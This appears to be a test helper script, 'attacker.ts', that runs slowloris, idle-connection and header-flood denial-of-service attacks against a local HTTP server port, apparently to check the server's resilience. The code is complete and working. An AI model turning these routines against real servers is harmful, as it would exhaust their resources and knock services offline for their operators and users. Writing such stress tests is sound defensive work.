/** One kind of attack, in a process of its own: `node attacker.ts KIND PORT HOST`; says `ready` when all of it is under way. */
import { connect, type Socket } from "node:net";

const [kind = "", port = "", host = ""] = process.argv.slice(2);
const SLOW = 2_000;
const SILENT = 10_000;
const FLOODING = 32;
const AT_ONCE = 200;

const KINDS: Readonly<Record<string, () => Promise<void>>> = { slowloris, silent, flood };
await KINDS[kind]?.();
console.log("ready");

/** A head that grows by a byte a second and never ends. */
async function slowloris(): Promise<void> {
  const sockets = await open(SLOW);
  for (const socket of sockets) socket.write(`GET / HTTP/1.1\r\nHost: ${host}\r\nX-Slow: `);
  setInterval(() => {
    for (const socket of sockets) if (socket.writable) socket.write("a");
  }, 1_000);
}

/** Connections that say nothing. */
async function silent(): Promise<void> {
  await open(SILENT);
}

/** Header lines without end, as fast as they are taken; cut ones begin again. */
async function flood(): Promise<void> {
  const line = `X-Flood: ${"a".repeat(1_000)}\r\n`.repeat(16);
  const begin = () => {
    const socket = connect(Number(port), "127.0.0.1");
    const fill = () => {
      while (socket.writable && socket.write(line));
    };
    socket.on("connect", () => {
      socket.write(`GET / HTTP/1.1\r\nHost: ${host}\r\n`);
      fill();
    });
    socket.on("drain", fill);
    socket.on("error", () => {});
    socket.on("close", () => setImmediate(begin));
    socket.resume();
  };
  for (let each = 0; each < FLOODING; each++) begin();
}

async function open(count: number): Promise<Socket[]> {
  const sockets: Socket[] = [];
  for (let opened = 0; opened < count; opened += AT_ONCE) {
    const some = Array.from({ length: AT_ONCE }, () => connect(Number(port), "127.0.0.1"));
    for (const socket of some) socket.on("error", () => {});
    await Promise.all(some.map((socket) => new Promise((resolve) => socket.once("connect", resolve).once("close", resolve))));
    sockets.push(...some);
  }
  return sockets;
}
